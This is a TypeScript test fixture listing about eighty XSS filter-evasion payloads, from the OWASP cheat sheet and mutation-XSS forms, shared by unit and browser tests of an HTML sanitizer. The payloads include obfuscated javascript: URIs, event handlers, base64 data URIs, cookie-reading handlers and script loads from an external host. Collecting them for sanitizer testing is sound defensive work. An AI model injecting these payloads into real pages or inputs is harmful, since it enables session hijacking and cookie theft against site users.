/**
 * XSS filter-evasion vectors, mostly from the OWASP "XSS Filter Evasion Cheat Sheet", plus a few
 * mutation-XSS (mXSS) forms. Shared by the jsdom unit test and the Chromium e2e test so both
 * prove the same list. Every payload calls `alert`, which both tests replace with a recorder.
 */
export interface XssVector {
  name: string;
  html: string;
}

const NUL = String.fromCharCode(0);
const decimal = (s: string, pad = 0) =>
  [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}`).join(pad ? '' : ';') +
  (pad ? '' : ';');
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');
const JS = "javascript:alert('XSS')";

export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'basic script tag', html: '<SCRIPT>alert("XSS")</SCRIPT>' },
  { name: 'external script src', html: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>' },
  {
    name: 'polyglot',
    html: `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  },
  { name: 'img javascript: src', html: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img no quotes no semicolon', html: `<IMG SRC=javascript:alert('XSS')>` },
  { name: 'case-insensitive protocol', html: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'html entities in src', html: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { name: 'grave accent obfuscation', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'a onmouseover', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'malformed img with script', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: 'fromCharCode', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { name: 'default src onmouseover', html: `<IMG SRC=# onmouseover="alert('xxs')">` },
  { name: 'empty src onmouseover', html: `<IMG SRC= onmouseover="alert('xxs')">` },
  { name: 'img onerror', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  {
    name: 'onerror with padded entities',
    html: `<img src=x onerror="${decimal("javascript:alert('XSS')", 7)}">`,
  },
  { name: 'decimal entities with semicolons', html: `<IMG SRC=${decimal(JS)}>` },
  { name: 'decimal entities padded, no semicolons', html: `<IMG SRC=${decimal(JS, 7)}>` },
  { name: 'hex entities without semicolons', html: `<IMG SRC=${hex(JS)}>` },
  { name: 'embedded tab', html: `<IMG SRC="jav\tascript:alert('XSS');">` },
  { name: 'embedded encoded tab', html: `<IMG SRC="jav&#x09;ascript:alert('XSS');">` },
  { name: 'embedded encoded newline', html: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
  { name: 'embedded encoded carriage return', html: `<IMG SRC="jav&#x0D;ascript:alert('XSS');">` },
  { name: 'NUL byte in protocol', html: `<IMG SRC=java${NUL}script:alert("XSS")>` },
  { name: 'NUL byte in tag name', html: `<SCR${NUL}IPT>alert("XSS")</SCR${NUL}IPT>` },
  { name: 'spaces and meta chars before protocol', html: `<IMG SRC=" &#14;  javascript:alert('XSS');">` },
  { name: 'non-alpha-non-digit in tag', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'body onload with junk', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'no closing script tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'protocol-relative script', html: '<SCRIPT SRC=//xss.rocks/.j>' },
  { name: 'half-open img', html: `<IMG SRC="\`<javascript:alert>\`('XSS')"` },
  { name: 'double open angle iframe', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { name: 'end title tag', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'input image', html: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">` },
  { name: 'body background', html: `<BODY BACKGROUND="javascript:alert('XSS')">` },
  {
    name: 'img dynsrc and lowsrc',
    html: `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`,
  },
  { name: 'svg onload', html: `<svg/onload=alert('XSS')>` },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'body onload', html: `<BODY ONLOAD=alert('XSS')>` },
  { name: 'bgsound', html: `<BGSOUND SRC="javascript:alert('XSS');">` },
  { name: 'link stylesheet', html: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">` },
  { name: 'style @import', html: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>" },
  {
    name: 'meta link header',
    html: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  },
  {
    name: 'style -moz-binding',
    html: '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  },
  { name: 'img style expression with comment', html: `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">` },
  { name: 'style type javascript', html: `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>` },
  {
    name: 'style class background url',
    html: `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  },
  { name: 'unknown tag style expression', html: `<XSS STYLE="xss:expression(alert('XSS'))">` },
  {
    name: 'meta refresh javascript',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  },
  {
    name: 'meta refresh data uri',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  { name: 'iframe javascript', html: `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>` },
  { name: 'iframe event', html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'frameset', html: `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>` },
  {
    name: 'table background',
    html: `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD BACKGROUND="javascript:alert('XSS')">x</TD></TR></TABLE>`,
  },
  {
    name: 'div background-image url',
    html: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  },
  {
    name: 'div background-image css escapes',
    html: `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">x</DIV>`,
  },
  { name: 'div width expression', html: `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>` },
  { name: 'color with expression', html: `<span style="color: expression(alert('XSS'))">x</span>` },
  { name: 'color then url', html: `<p style="color: red; background: url(javascript:alert('XSS'))">x</p>` },
  { name: 'color via css escape', html: `<span style="col\\6f r: url(javascript:alert(1))">x</span>` },
  { name: 'base href', html: `<BASE HREF="javascript:alert('XSS');//">` },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  { name: 'object javascript data', html: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'embed svg data uri',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  { name: 'script attribute with >', html: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'a href entity-obfuscated javascript', html: '<a href="jav&#x61;script:alert(1)">x</a>' },
  {
    name: 'a href data uri',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'form action button', html: '<form><button formaction=javascript:alert(1)>x</button></form>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'template script', html: '<template><script>alert(1)</script></template>' },
  { name: 'mXSS noscript title', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'mXSS svg style', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'mXSS math mglyph',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'nested quotes in allowed tag',
    html: `<p style='color:red" onmouseover="alert(1)'>x</p><b ""onclick=alert(1)>y</b>`,
  },
];
